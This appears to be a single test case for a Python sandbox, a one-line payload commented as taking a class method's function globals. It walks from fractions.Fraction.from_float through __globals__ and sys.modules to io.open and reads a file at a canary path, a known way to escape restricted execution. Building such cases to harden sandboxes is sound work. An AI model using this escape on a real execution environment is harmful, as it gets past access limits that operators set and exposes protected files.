# what: takes the globals of a class method's function
import fractions

vars(fractions.Fraction)["from_float"].__func__.__globals__["sys"].modules["io"].open(CANARY_PATH).read()
